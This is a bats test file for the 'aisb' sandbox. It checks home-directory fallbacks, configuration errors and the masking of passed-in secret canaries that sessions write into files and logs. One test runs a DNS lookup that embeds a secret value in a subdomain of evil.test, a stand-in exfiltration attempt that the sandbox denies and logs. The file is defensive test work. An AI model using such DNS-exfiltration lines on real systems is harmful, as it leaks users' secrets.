#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# tests/e2e/homedir.bats — one rule for aisb's own directories (util/homedir.h): with HOME unset
# or unusable, run, doctor, images and pull all use the passwd home; no "//" in printed paths.

load lib/common

setup() {
	common_setup
	unset XDG_STATE_HOME XDG_CACHE_HOME XDG_CONFIG_HOME
	PWHOME=$(getent passwd "$(id -un)" | cut -d: -f6)
}

teardown() { common_teardown; }

# with_home VALUE CMD...: CMD with HOME=VALUE, or without HOME for "unset"
with_home() {
	local h=$1
	shift
	if [ "$h" = unset ]; then
		env -u HOME "$@"
	else
		env HOME="$h" "$@"
	fi
}

@test "home: HOME unset, missing or unwritable: run, doctor, images and pull all use the passwd home" {
	[ -d "$PWHOME" ] && [ -w "$PWHOME" ] || skip "the passwd home '$PWHOME' is not a writable directory"
	local homes=(unset "/nonexistent-aisb-$$")
	is_root || homes+=(/) # / is not writable for a user (root may write it: then it is a home)
	for h in "${homes[@]}"; do
		run with_home "$h" "$AISB" --net none --dry-run -- true
		[ "$status" -eq 0 ]
		[[ "$output" == *"home:       $PWHOME/.local/state/aisb/homes/default -> /home/sandbox"* ]]
		run with_home "$h" "$AISB" --net none -- true
		[ "$status" -eq 0 ]
		run with_home "$h" "$AISB" doctor
		[[ "$output" == *"ok   dirs       state dir $PWHOME/.local/state/aisb and cache dir $PWHOME/.cache/aisb are writable"* ]]
		run with_home "$h" "$AISB" images
		[ "$status" -eq 0 ]
		# pull reaches the store in the same place (a missing layout fails after that, naming it)
		run with_home "$h" "$AISB" pull "oci:$WORK/no-such-layout"
		[[ "$output" != *"cannot find the image store"* ]]
		[[ "$output" != *"/nonexistent-aisb"* ]]
	done
	[ ! -e "/nonexistent-aisb-$$" ]
}

@test "home: a usable HOME is used as it is, and printed paths have no '//'" {
	mkdir -p "$WORK/h"
	run env HOME="$WORK//h//" "$AISB" --net none --dry-run -- true
	[ "$status" -eq 0 ]
	[[ "$output" == *"home:       $WORK/h/.local/state/aisb/homes/default"* ]]
	[[ "$output" != *"//"* ]]
	run env HOME="$WORK//h//" "$AISB" doctor
	[[ "$output" == *"state dir $WORK/h/.local/state/aisb and cache dir $WORK/h/.cache/aisb are writable"* ]]
	[[ "$(grep dirs <<<"$output")" != *"//"* ]]
	# XDG variables still win over any home
	run env HOME="$WORK/h" XDG_STATE_HOME="$WORK/st" "$AISB" --net none --dry-run -- true
	[[ "$output" == *"home:       $WORK/st/aisb/homes/default"* ]]
}

# ---- passed-in values after the session (ns/scrub.h) ------------------------------------------

# Inner commands are single-quoted on purpose: they expand inside the sandbox.
# shellcheck disable=SC2016
@test "home: a passed-in value the session wrote into the home is masked at exit, named by variable and file, never printed; a later session finds no trace (control: other data and a linked host file stay)" {
	export XDG_STATE_HOME="$WORK/state" XDG_CONFIG_HOME="$WORK/config" XDG_CACHE_HOME="$WORK/cache"
	local canary="canary-$RANDOM$RANDOM-home" other="kept-$RANDOM$RANDOM-value" h="$WORK/state/aisb/homes/default"
	printf 'FILEKEY=%s\n' "$canary-f" >"$WORK/env"
	chmod 600 "$WORK/env"
	echo "$canary" >"$WORK/outside" # a host file a link in the home names: never written through
	run env ENVKEY="$canary" "$AISB" --net none --env ENVKEY --env-file "$WORK/env" --env "LIT=$canary-l" -- sh -c '
		mkdir -p ~/.codex/shell_snapshots ~/deep/a/b/c
		printf "declare -x ENVKEY=\"%s\"\n" "$ENVKEY" >~/.codex/shell_snapshots/1.sh
		chmod 644 ~/.codex/shell_snapshots/1.sh
		printf "{\"k\":\"%s\",\"f\":\"%s\",\"o\":\"%s\"}\n" "$ENVKEY" "$FILEKEY" "'"$other"'" >~/deep/a/b/c/state.json
		head -c 2000000 /dev/zero | tr "\0" a >~/big
		printf %s "$LIT" >>~/big
		echo x >~/"$ENVKEY".name
		printf %s "$FILEKEY" >~/ro
		chmod 444 ~/ro
		ln -s "'"$WORK/outside"'" ~/link
		echo wrote'
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *wrote* ]]
	# said by variable and file, never by value
	[[ "$output" == *"into 5 files of the sandbox home '$h'"* ]]
	local head
	head=$(grep 'the sandbox wrote the value of' <<<"$output")
	[[ "$head" == *'$ENVKEY'* && "$head" == *'$FILEKEY'* && "$head" == *'$LIT'* ]]
	[[ "$output" == *"'.codex/shell_snapshots/1.sh' (\$ENVKEY)"* ]]
	[[ "$output" == *"'deep/a/b/c/state.json' (\$FILEKEY, \$ENVKEY)"* ]] # the longer value first
	[[ "$output" == *"'big' (\$LIT)"* ]]
	[[ "$output" == *"'ro' (\$FILEKEY)"* ]]
	[[ "$output" == *"(\$ENVKEY): in its name, renamed"* ]]
	[[ "$output" != *"$canary"* ]]
	# nothing of it anywhere in aisb's state; the files keep their size, mode and shape
	no_trace "$canary" "$XDG_STATE_HOME"
	grep -qx "declare -x ENVKEY=\"$(python3 -c 'import sys; print(("REDACTED"*9)[:int(sys.argv[1])])' ${#canary})\"" \
		"$h/.codex/shell_snapshots/1.sh"
	[ "$(stat -c %a "$h/.codex/shell_snapshots/1.sh")" = 644 ]
	[ "$(stat -c %a "$h/ro")" = 444 ]
	[ "$(stat -c %s "$h/big")" -eq $((2000000 + ${#canary} + 2)) ]
	python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["o"]==sys.argv[2], d' \
		"$h/deep/a/b/c/state.json" "$other"
	# control: the host file the planted link names is untouched
	[ "$(cat "$WORK/outside")" = "$canary" ]
	[ -L "$h/link" ]
	# a later session in another project reads the masked file, not the value
	mkdir -p "$WORK/proj2"
	cd "$WORK/proj2"
	run "$AISB" --net none -- sh -c 'cat ~/.codex/shell_snapshots/1.sh ~/deep/a/b/c/state.json'
	[ "$status" -eq 0 ]
	[[ "$output" == *REDACTED* && "$output" == *"$other"* && "$output" != *"$canary"* ]]
	# control: the same value passed again and not written: nothing to say
	run env ENVKEY="$canary" "$AISB" --net none --env ENVKEY -- true
	[ "$status" -eq 0 ]
	[[ "$output" != *"the sandbox wrote"* ]]
	# control: a value that was not passed in is the sandbox's own data and stays
	run "$AISB" --net none -- sh -c 'echo "'"$canary"'" > ~/mine'
	[ "$(cat "$h/mine")" = "$canary" ]
	[[ "$output" != *"the sandbox wrote"* ]]
}

@test "home: a passed-in value in aisb's own records (egress log, kept session dir) is masked too" {
	export XDG_STATE_HOME="$WORK/state" XDG_CONFIG_HOME="$WORK/config" XDG_CACHE_HOME="$WORK/cache"
	local canary="canary-$RANDOM$RANDOM-log"
	# the name is denied by the gate's own resolver (nothing leaves this machine) and logged
	run env K="$canary" "$AISB" --keep --allow example.com --env K -- sh -c 'getent hosts "$K.evil.test"; true'
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"the sandbox wrote the value of \$K into 1 file of the session dir"*"'egress.jsonl' (\$K)"* ]]
	grep -q 'REDACTED' "$(session_dir)/egress.jsonl"
	# not kept: the log moved to the state dir at exit is masked before
	run env K="$canary" "$AISB" --allow example.com --env K -- sh -c 'getent hosts "$K.evil.test"; true'
	[ "$status" -eq 0 ]
	ls "$XDG_STATE_HOME"/aisb/egress/*.jsonl
	no_trace "$canary" "$XDG_STATE_HOME" "$(run_dir)"
	# control: the log has the denial, with the name's other labels
	grep -q '"evil.test\|\.evil\.test' "$XDG_STATE_HOME"/aisb/egress/*.jsonl
}

# shellcheck disable=SC2016
@test "home: a session whose supervisor was killed before its check leaves a record; the next session on the home checks back to its start (control: the value is there until then)" {
	export XDG_STATE_HOME="$WORK/state" XDG_CONFIG_HOME="$WORK/config" XDG_CACHE_HOME="$WORK/cache"
	local canary="canary-$RANDOM$RANDOM-kill" h="$WORK/state/aisb/homes/default" sup _
	K="$canary" "$AISB" --net none --env K -- sh -c 'echo "$K" > ~/snap; touch ready; while :; do sleep 1; done' \
		>"$WORK/out" 2>&1 &
	sup=$!
	for _ in $(seq 200); do
		[ -e "$PROJ/ready" ] && break
		sleep 0.05
	done
	[ -e "$PROJ/ready" ]
	# the record of the pending check exists while the session runs
	ls "$XDG_STATE_HOME"/aisb/scrub/default/* >/dev/null
	local mark
	mark=$(ls "$XDG_STATE_HOME"/aisb/scrub/default/*)
	kill -9 "$sup"
	wait "$sup" || true
	# until the sandbox that died with it let go of the record too
	for _ in $(seq 200); do
		flock -n "$mark" true && break
		sleep 0.05
	done
	# the supervisor had no chance: the value is in the home (the window this record closes)
	grep -qF "$canary" "$h/snap"
	# the next session with the same value, writing nothing, checks what the killed one changed
	run env K="$canary" "$AISB" --net none --env K -- true
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"1 earlier session on the home '$h' ended without its check for passed-in values"* ]]
	[[ "$output" == *"'snap' (\$K)"* ]]
	[[ "$output" != *"$canary"* ]]
	no_trace "$canary" "$XDG_STATE_HOME"
	# done: the records are gone, and the next run says nothing
	[ -z "$(ls -A "$XDG_STATE_HOME/aisb/scrub/default")" ]
	run env K="$canary" "$AISB" --net none --env K -- true
	[[ "$output" != *"earlier session"* && "$output" != *"the sandbox wrote"* ]]
}

# as_nobody CMD...: CMD as uid/gid 1234, which has no passwd entry (`docker run --user 1234`),
# with HOME=/ as such containers set it and nothing else inherited
as_nobody() {
	setpriv --reuid=1234 --regid=1234 --clear-groups env -i PATH=/usr/bin:/bin HOME=/ "$@"
}

@test "home: a uid with no passwd entry (HOME=/): every subcommand refuses (78, configuration) naming the variable to set; control: with XDG_STATE_HOME and XDG_CACHE_HOME every one works" {
	is_root || skip "needs root to become a uid with no passwd entry (setpriv)"
	need setpriv
	! getent passwd 1234 >/dev/null || skip "uid 1234 has a passwd entry here"
	local proj="$WORK/proj" sub
	mkdir -p "$proj" "$WORK/st" "$WORK/ca"
	chmod 755 "$WORK" "$proj"
	chown 1234:1234 "$WORK/st" "$WORK/ca"
	chmod o+rx "$(dirname "$WORK")" "$(dirname "$(dirname "$WORK")")" 2>/dev/null || true
	cd "$proj"
	# the state dir and the image store refuse with one code: the environment is configuration
	# (78), not aisb failing (125; docs/troubleshooting.md, Exit codes)
	for sub in "--net none -- true" ps clean "logs 0123456789ab" "inspect 0123456789ab" "home"; do
		# shellcheck disable=SC2086
		run as_nobody "$AISB" $sub
		echo "$sub: $status $output"
		[ "$status" -eq 78 ]
		[[ "$output" == *"cannot use '/.local/state/aisb' for aisb's state"* ]]
		[[ "$output" == *"set XDG_STATE_HOME (or HOME) to a writable directory"* ]]
	done
	run as_nobody "$AISB" images
	[ "$status" -eq 78 ]
	[[ "$output" == *"cannot use '/.cache/aisb' for aisb's image cache"*"set XDG_CACHE_HOME (or HOME)"* ]]
	# doctor fails its dirs check with the same message
	run as_nobody "$AISB" doctor
	[[ "$output" == *"FAIL dirs       cannot use '/.local/state/aisb' for aisb's state"* ]]
	[[ "$output" == *"fix: set XDG_STATE_HOME (or HOME) to a writable directory"* ]]
	# with only the state set, the cache is still refused by the same rule (images used to fail
	# later, on '/.cache'), and doctor says which
	run as_nobody XDG_STATE_HOME="$WORK/st" "$AISB" doctor
	[[ "$output" == *"FAIL dirs       cannot use '/.cache/aisb' for aisb's image cache"* ]]
	# control: both set, every one of them works
	for sub in "--net none --accept-unenforced-limits -- true" ps clean images home doctor; do
		# shellcheck disable=SC2086
		run as_nobody XDG_STATE_HOME="$WORK/st" XDG_CACHE_HOME="$WORK/ca" "$AISB" $sub
		echo "$sub: $status $output"
		[[ "$output" != *"cannot use"* ]]
		[ "$sub" = doctor ] || [ "$status" -eq 0 ]
	done
	[[ "$output" == *"ok   dirs       state dir $WORK/st/aisb and cache dir $WORK/ca/aisb are writable"* ]]
	cd /
}

@test "home: read-only root and no HOME: the state dir is refused (78) naming XDG_STATE_HOME, with the kernel's reason; control: a writable XDG_STATE_HOME works" {
	is_root || skip "needs root for a private mount namespace with a read-only root (unshare -m)"
	need unshare
	local proj="$WORK/proj"
	mkdir -p "$proj" "$WORK/st"
	cd "$proj"
	# a private mount namespace whose / is read-only (the test's own dirs too, they are on /),
	# with a fresh tmpfs on $WORK/st as the one writable place
	ro_root() {
		unshare -m sh -c 'mount --make-rprivate / && mount -t tmpfs -o size=16m aisb-st "$0" &&
			mount -o remount,bind,ro / && exec env -u HOME "$@"' "$WORK/st" "$@"
	}
	run ro_root "$AISB" --net none --accept-unenforced-limits -- true
	echo "$output"
	[ "$status" -eq 78 ]
	[[ "$output" == *"for aisb's state (below the home directory): Read-only file system: set XDG_STATE_HOME (or HOME)"* ]]
	run ro_root "$AISB" ps
	[ "$status" -eq 78 ]
	[[ "$output" == *"Read-only file system: set XDG_STATE_HOME (or HOME)"* ]]
	# control: the same read-only root with XDG_STATE_HOME on the tmpfs runs
	run ro_root env XDG_STATE_HOME="$WORK/st" "$AISB" --net none --accept-unenforced-limits -- echo ran
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *ran* ]]
	cd /
}
